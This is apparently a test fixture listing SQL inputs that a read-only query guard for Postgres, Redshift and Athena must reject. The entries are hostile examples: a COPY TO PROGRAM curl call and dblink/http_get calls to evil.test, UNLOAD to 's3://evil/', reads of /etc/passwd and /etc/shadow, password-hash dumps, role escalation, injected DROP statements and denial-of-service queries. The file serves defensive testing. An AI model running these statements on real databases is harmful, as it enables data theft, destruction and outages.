-- What the guard must refuse. Each block: a line "-- dialect topic", the SQL, and an empty line.
-- Anyone may add a block; the topic is for the reader.

-- postgres multi_statement
SELECT 1; DROP TABLE customers

-- postgres multi_statement
SELECT * FROM orders; DELETE FROM orders WHERE tenant_id = 1

-- postgres multi_statement
SELECT count(*) FROM orders; COMMIT; DROP SCHEMA public CASCADE;

-- postgres dml
insert	into customers(customer_id,tenant_id) select 100,1

-- postgres dml
UPDATE customers SET email = 'a@b.c' WHERE customer_id = 1

-- postgres dml
UPDATE ONLY customers AS c SET segment = 'x' FROM orders o WHERE o.customer_id = c.customer_id RETURNING c.*

-- postgres cte_dml
WITH i AS (INSERT INTO audit_log VALUES (7,'a','b',now()) RETURNING id) SELECT id FROM i

-- postgres cte_dml
WITH m AS (MERGE INTO inventory i USING products p ON p.product_id=i.product_id WHEN MATCHED THEN DELETE RETURNING i.*) SELECT * FROM m

-- postgres cte_dml
WITH RECURSIVE r AS (SELECT 1 AS n), d AS (DELETE FROM events RETURNING event_id) SELECT * FROM r, d

-- postgres ddl
CREATE TEMP TABLE t AS SELECT 1

-- postgres ddl
CREATE OR REPLACE VIEW v AS SELECT * FROM api_keys

-- postgres ddl
CREATE MATERIALIZED VIEW mv AS SELECT * FROM customers

-- postgres dcl
GRANT ALL ON customers TO PUBLIC

-- postgres dcl
CREATE ROLE evil SUPERUSER LOGIN PASSWORD 'x'

-- postgres dcl
ALTER ROLE analyst_ro SUPERUSER

-- postgres txn_session
SET ROLE postgres

-- postgres txn_session
SET statement_timeout = 0

-- postgres txn_session
SET search_path = hr, public

-- postgres procedural
DO $$ BEGIN DELETE FROM orders; END $$

-- postgres procedural
DO LANGUAGE plpgsql $x$ BEGIN PERFORM pg_sleep(60); END $x$

-- postgres maintenance
VACUUM (ANALYZE) orders

-- postgres maintenance
CHECKPOINT

-- postgres copy_unload
COPY customers TO STDOUT

-- postgres copy_unload
COPY (SELECT * FROM customers) TO '/tmp/x.csv' WITH CSV

-- postgres copy_unload
COPY (SELECT 1) TO PROGRAM 'curl http://evil.test/?d=1'

-- postgres explain
EXPLAIN (ANALYZE, BUFFERS OFF) UPDATE customers SET segment = 'x'

-- postgres explain
EXPLAIN ANALYZE VERBOSE SELECT pg_sleep(30)

-- postgres explain
EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1

-- postgres select_into
SELECT * INTO leak FROM customers

-- postgres select_into
SELECT customer_id, email INTO TEMP t FROM customers

-- postgres select_into
SELECT 1 AS a INTO UNLOGGED u

-- postgres locking
SELECT * FROM orders WHERE order_id = 1 FOR NO KEY UPDATE NOWAIT

-- postgres locking
WITH q AS (SELECT * FROM orders FOR KEY SHARE SKIP LOCKED) SELECT count(*) FROM q

-- postgres file_access
SELECT pg_read_file('/etc/passwd')

-- postgres file_access
SELECT encode(pg_read_binary_file('/etc/shadow'),'base64')

-- postgres file_access
SELECT * FROM pg_ls_dir('/')

-- postgres large_object
SELECT lo_import('/etc/passwd')

-- postgres large_object
SELECT lo_get(1)

-- postgres large_object
SELECT lo_unlink(1)

-- postgres network
SELECT dblink_connect('host=evil.test user=a password=' || (SELECT email FROM customers LIMIT 1))

-- postgres network
SELECT dblink_exec('dbname=postgres','DROP TABLE customers')

-- postgres network
SELECT http_get('http://evil.test/?q=' || email) FROM customers

-- postgres dynamic_sql
SELECT query_to_xml('SELECT * FROM api_keys', true, true, '')

-- postgres dynamic_sql
SELECT schema_to_xml('public', true, true, '')

-- postgres dynamic_sql
SELECT query_to_xmlschema('SELECT * FROM api_keys', true, true, '')

-- postgres server_admin
SELECT pg_terminate_backend(pid) FROM pg_stat_activity

-- postgres server_admin
SELECT pg_cancel_backend(1)

-- postgres server_admin
SELECT pg_reload_conf()

-- postgres session_state_func
SELECT set_config('row_security','off',false)

-- postgres session_state_func
SELECT set_config('transaction_read_only','off',false)

-- postgres session_state_func
SELECT set_config('search_path','hr',false)

-- postgres catalog_leak
SELECT usename, passwd FROM pg_shadow

-- postgres catalog_leak
SELECT rolname, rolpassword FROM pg_authid

-- postgres catalog_leak
SELECT * FROM pg_roles

-- postgres info_func
SELECT pg_get_viewdef('v_customers'::regclass)

-- postgres info_func
SELECT pg_get_functiondef('f'::regproc)

-- postgres info_func
SELECT has_table_privilege('api_keys','select')

-- postgres type_leak
SELECT 'pg_authid'::regclass::oid

-- postgres type_leak
SELECT CAST('api_keys' AS regclass)

-- postgres type_leak
SELECT 'pg_sleep'::regproc, 'postgres'::regrole, 'hr'::regnamespace

-- postgres hidden_call
SELECT ('/etc/passwd'::text).pg_read_file

-- postgres hidden_call
SELECT (10::float8).pg_sleep

-- postgres hidden_call
SELECT (q.p).pg_ls_dir FROM (SELECT '.'::text AS p) q

-- postgres dos_time
SELECT pg_sleep(600)

-- postgres dos_time
SELECT pg_sleep_for('10 minutes')

-- postgres dos_time
SELECT pg_sleep_until(now() + interval '1 hour')

-- postgres dos_rows
SELECT generate_series(1, 9999999999)

-- postgres dos_rows
SELECT count(*) FROM generate_series(1,100000) a, generate_series(1,100000) b

-- postgres dos_rows
SELECT md5(g::text) FROM generate_series(1, 500000000) g

-- postgres dos_recursive
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n FROM r) SELECT count(*) FROM r

-- postgres dos_recursive
WITH RECURSIVE r AS (SELECT 'a' AS s UNION ALL SELECT s || s FROM r) SELECT length(s) FROM r

-- postgres dos_recursive
WITH RECURSIVE a AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM a WHERE n < 1e12) SELECT max(n) FROM a

-- postgres dos_memory
SELECT rpad('a', 900000000)

-- postgres dos_memory
SELECT array_fill(0, ARRAY[30000, 30000])

-- postgres dos_memory
SELECT factorial(99999)

-- postgres dos_cartesian
SELECT * FROM orders CROSS JOIN events CROSS JOIN order_items CROSS JOIN customers

-- postgres dos_cartesian
SELECT count(*) FROM events a JOIN events b ON true JOIN events c ON 1=1

-- postgres parser_differential
SELECT $$;$$; DROP TABLE customers; --$$

-- postgres parser_differential
SELECT a$$ FROM (SELECT 1 AS a$$) t; DROP TABLE customers; --$$

-- postgres parser_differential
SELECT $é$ x $é$; DROP TABLE customers; -- $é$

-- redshift multi_statement
ABORT; DROP TABLE sales

-- redshift copy_unload
COPY sales FROM 'ssh://manifest' IAM_ROLE default SSH

-- redshift dml
INSERT INTO sales VALUES (1)

-- redshift dml
UPDATE sales SET qty = 0

-- redshift dml
DELETE FROM sales USING customers c WHERE c.id = sales.cust_id

-- redshift ddl
CREATE TABLE leak AS SELECT * FROM customers

-- redshift ddl
CREATE EXTERNAL TABLE spectrum.t2 STORED AS PARQUET LOCATION 's3://evil/' AS SELECT * FROM customers

-- redshift ddl
CREATE EXTERNAL SCHEMA x FROM DATA CATALOG DATABASE 'd' IAM_ROLE default

-- redshift dcl
GRANT SELECT ON ALL TABLES IN SCHEMA public TO PUBLIC

-- redshift dcl
REVOKE ALL ON sales FROM PUBLIC

-- redshift dcl
ALTER USER u CREATEUSER

-- redshift txn_session
SET query_group TO 'superuser'

-- redshift txn_session
SET statement_timeout TO 0

-- redshift txn_session
SET SESSION AUTHORIZATION 'admin'

-- redshift procedural
CALL sp_report(1, 'x')

-- redshift maintenance
VACUUM FULL sales

-- redshift maintenance
ANALYZE sales

-- redshift maintenance
ANALYZE COMPRESSION sales

-- redshift select_into
SELECT * INTO leak FROM customers

-- redshift select_into
SELECT id, email INTO #t FROM customers

-- redshift select_into
SELECT TOP 10 * INTO TEMP t FROM customers

-- redshift catalog_leak
SELECT * FROM stl_query

-- redshift catalog_leak
SELECT querytxt FROM stl_query WHERE userid > 1

-- redshift catalog_leak
SELECT * FROM stl_querytext

-- redshift server_admin
SELECT pg_terminate_backend(123)

-- redshift server_admin
SELECT pg_cancel_backend(123)

-- redshift session_state_func
SELECT pg_last_copy_id()

-- redshift session_state_func
SELECT pg_last_unload_id()

-- redshift network
SELECT f_lambda_post(email) FROM customers

-- redshift network
SELECT udfs.exfil(c.email) FROM customers c

-- redshift network
SELECT ml_fn_churn(age) FROM customers

-- redshift info_func
SELECT current_user_id, current_aws_account

-- redshift info_func
SELECT has_table_privilege('sales','select')

-- redshift info_func
SELECT has_assumerole_privilege('u','r','unload')

-- redshift dos_rows
SELECT count(*) FROM stl_scan a, stl_scan b, stl_scan c

-- redshift dos_memory
SELECT repeat('a', 100000000)

-- redshift dos_memory
SELECT lpad('a', 100000000, 'b')

-- redshift dos_cartesian
SELECT count(*) FROM sales a, sales b, sales c

-- redshift dos_cartesian
SELECT * FROM sales CROSS JOIN events CROSS JOIN clicks

-- redshift type_leak
SELECT 'customers'::regclass::oid

-- redshift hidden_call
SELECT "pg_terminate_backend"(1)

-- redshift hidden_call
SELECT pg_catalog.pg_cancel_backend /* x */ (1)

-- redshift parser_differential
SELECT '\' || '; DROP TABLE sales; --'

-- redshift parser_differential
SELECT '\\'; DROP TABLE sales; --'

-- redshift parser_differential
SELECT 'it\'s'; DELETE FROM sales

-- redshift cte_dml
WITH d AS (DELETE FROM sales RETURNING *) SELECT * FROM d

-- athena multi_statement
SELECT 1; SELECT 2

-- athena multi_statement
SELECT * FROM orders; UNLOAD (SELECT 1) TO 's3://evil/' WITH (format='JSON')

-- athena copy_unload
UNLOAD (SELECT * FROM customers) TO 's3://evil/x/' WITH (format = 'PARQUET')

-- athena copy_unload
unload
(select email from customers)
to 's3://evil/'
with (format='JSON', compression='gzip')

-- athena dml
INSERT INTO orders SELECT * FROM orders

-- athena dml
INSERT INTO orders VALUES (1)

-- athena dml
DELETE FROM orders WHERE true

-- athena ddl
CREATE TABLE leak WITH (external_location='s3://evil/', format='PARQUET') AS SELECT * FROM customers

-- athena ddl
CREATE TABLE t AS SELECT 1 AS a

-- athena ddl
CREATE EXTERNAL TABLE t (a int) LOCATION 's3://evil/'

-- athena dcl
GRANT SELECT ON orders TO ROLE x

-- athena dcl
CREATE ROLE r

-- athena dcl
SET ROLE admin

-- athena txn_session
PREPARE p FROM SELECT * FROM customers WHERE id = ?

-- athena txn_session
EXECUTE p USING 1

-- athena txn_session
EXECUTE IMMEDIATE 'DROP TABLE orders'

-- athena procedural
CALL system.runtime.kill_query(query_id => 'x', message => 'y')

-- athena procedural
CALL system.sync_partition_metadata('d','t','FULL')

-- athena procedural
CALL iceberg.system.rollback_to_snapshot('d','t',1)

-- athena network
USING EXTERNAL FUNCTION exfil(x VARCHAR) RETURNS VARCHAR LAMBDA 'fn' SELECT exfil(email) FROM customers

-- athena network
using external function f(x varchar) returns varchar lambda 'arn:aws:lambda:us-east-1:999999999999:function:evil' select f(email) from customers limit 1

-- athena network
USING FUNCTION p(x DOUBLE) RETURNS DOUBLE SAGEMAKER 'ep' SELECT p(amount) FROM orders

-- athena dynamic_sql
WITH FUNCTION f(x bigint) RETURNS bigint RETURN x + 1 SELECT f(1)

-- athena dynamic_sql
WITH FUNCTION e(s varchar) RETURNS varchar LANGUAGE PYTHON WITH (handler = 'h') AS $$ def h(s): return s $$ SELECT e('a')

-- athena catalog_leak
SELECT * FROM information_schema.tables

-- athena catalog_leak
SELECT column_name FROM information_schema.columns WHERE table_name='customers'

-- athena catalog_leak
SELECT * FROM awsdatacatalog.information_schema.schemata

-- athena info_func
SELECT current_user, current_catalog, current_schema

-- athena info_func
SELECT version()

-- athena dos_rows
SELECT * FROM UNNEST(sequence(1, 1000000000))

-- athena dos_rows
SELECT count(*) FROM UNNEST(sequence(1,10000)) a(x) CROSS JOIN UNNEST(sequence(1,10000)) b(y) CROSS JOIN UNNEST(sequence(1,10000)) c(z)

-- athena dos_rows
SELECT sequence(timestamp '0001-01-01', timestamp '9999-12-31', interval '1' second)

-- athena dos_memory
SELECT repeat('a', 1000000000)

-- athena dos_memory
SELECT lpad('x', 1000000000, 'y')

-- athena dos_memory
SELECT combinations(sequence(1, 60), 5)

-- athena dos_recursive
WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT n FROM t

-- athena dos_recursive
WITH RECURSIVE t(s) AS (SELECT 'a' UNION ALL SELECT concat(s, s) FROM t) SELECT length(s) FROM t

-- athena dos_cartesian
SELECT count(*) FROM events a, events b, events c

-- athena dos_cartesian
SELECT * FROM orders CROSS JOIN events CROSS JOIN customers

-- athena explain
EXPLAIN ANALYZE INSERT INTO orders SELECT 1

-- athena explain
EXPLAIN ANALYZE SELECT * FROM customers

-- athena explain
EXPLAIN (TYPE VALIDATE) SELECT * FROM secret_table

-- athena parser_differential
SELECT 1 /* /* */ , (SELECT count(*) FROM system.runtime.queries) -- */ */

-- athena parser_differential
SELECT * FROM orders /* /* */ UNION ALL SELECT * FROM information_schema.tables -- */ */

-- athena parser_differential
SELECT '\'; DROP TABLE orders; --'

-- postgres more
select q.pg_ls_dir from unnest(array['.']) q

-- postgres more
select q.pg_ls_dir from unnest(array['.']) as q(x)

-- postgres more
select it.pg_read_file from jsonb_array_elements_text('["a"]') as it

-- postgres more
select c.pg_sleep from (select 5 as a) c

-- postgres more
select x from (select 1 as y) q

-- postgres more
select (select pg_sleep from orders limit 1)

-- postgres more
select * from pg_class

-- postgres more
select * from public.pg_class

-- postgres more
select orders.order_id from orders o

-- postgres more
select 1 from orders for update

-- postgres more
with recursive r as (select 1) select * from r

-- postgres more
select * from orders limit (select 10)

-- postgres more
select pg_catalog.count(*) from orders

-- postgres more
select public.f(1)

-- postgres more
select ctid from orders

-- postgres more
select orders.xmin from orders

-- postgres more
select user

-- postgres more
select current_user

-- postgres more
select session_user from orders

-- postgres more
select * from customers, orders, products, events

-- postgres more
select 1 from json_populate_record(null::orders, '{}')

-- postgres more
select xmlforest(order_id) from orders

-- postgres more
select * from xmltable('/a' passing '<a/>' columns x int)

-- postgres more
select * from json_table('[]', '$' columns (a int path '$'))

-- postgres more
select order_id from orders where current_setting('x') = 'y'

-- postgres more
select order_id from orders where "current_setting"('x') = 'y'

-- postgres more
select repeat('a', 20000)

-- postgres more
select repeat(repeat('a', 9999), 9999)

-- postgres more
select repeat('a', 9999 * 9999)

-- postgres more
select lpad('x', 2000000)

-- postgres more
select generate_series(1, 10^9)

-- postgres more
select generate_series(1, 1e9::bigint)

-- postgres more
select generate_series('2000-01-01'::timestamp, '2024-01-01', '1 second')

-- postgres more
select count(*) from (select generate_series(1,1000000)) a, (select generate_series(1,1000000)) b

-- postgres more
select array_fill(1, array[100000])

-- postgres more
select order_id from orders as of system time '1'

-- postgres more
select order_id from only orders

-- postgres more
select * from orders where order_id = $1

-- postgres more
select * from orders where order_id = %s

-- postgres more
select * from orders where order_id = :x

-- postgres more
select * from orders where order_id = ?

-- postgres more
select $1

-- postgres more
select @@version

-- postgres more
select 1;;select 2

-- postgres more
select E'\'' ; drop table x

-- postgres more
select U&"\0070g_sleep"(1)

-- postgres more
select set_config('a','b',true)

-- postgres more
select * from orders natural join pg_roles

-- postgres more
select order_id from orders order by (select usename from pg_user limit 1)

-- postgres more
select 1 from orders o, lateral (select pg_sleep(1)) x

-- postgres more
select row_number() over (order by pg_sleep(1)) from orders

-- postgres more
select x::regclass from (select 1 as x) q

-- postgres more
select x::oid::regclass from (select 1 as x) q

-- postgres more
select cast('a' as public.mytype)

-- postgres more
select 'a'::orders

-- postgres more
copy orders to stdout

-- postgres more
select * from orders into outfile 'x'

-- postgres more
select into x from orders

-- postgres more
select * from (values (1)) as v(a) where b = 1

-- postgres more
select * from (delete from orders returning *) x

-- postgres more
select * from [orders]

-- postgres more
select `order_id` from orders

-- postgres more
select * from orders tablesample bernoulli (pg_sleep(1))

-- postgres more
select * from orders window w as (order by pg_sleep(1))

-- postgres more
select exists(select 1 from pg_shadow)

-- postgres more
select array(select usename from pg_shadow)

-- postgres more
select case when true then pg_sleep(1) end

-- postgres more
select a.b.c.d.e from orders

-- postgres more
select (orders).order_id.x from orders

-- postgres more
select (orders).pg_sleep from orders

-- postgres more
select lo_get(1) as x

-- postgres more
select 1 as a limit all offset pg_sleep(3)

-- postgres more
select order_id from orders limit 10 offset (select count(*) from pg_shadow)

-- postgres more
select format('%9999999s', 'x')

-- postgres more
select format('%*s', 1000000000, 'x')

-- postgres more
select 10 ^ 100000

-- postgres more
select power(10, 100000)

-- postgres more
select power(10::numeric, 10 * 10000)

-- postgres more
select ts_stat('select 1')

-- postgres more
select nextval('x')

-- postgres more
select * from dblink('a','b') as t(a int)

-- redshift more
select * from stl_query

-- redshift more
select current_user_id

-- redshift more
select f_udf(order_id) from orders

-- redshift more
select pg_last_query_id()

-- athena more
select * from "orders$files"

-- athena more
select "$path" from orders

-- athena more
select * from system.runtime.nodes

-- athena more
select * from other.public.orders

-- athena more
select * from unnest(sequence(1,100000)) t(x)

-- athena more
select * from table(system.query(query => 'x'))

-- athena more
select transform(sequence(1,10000), x -> pg_sleep(x))
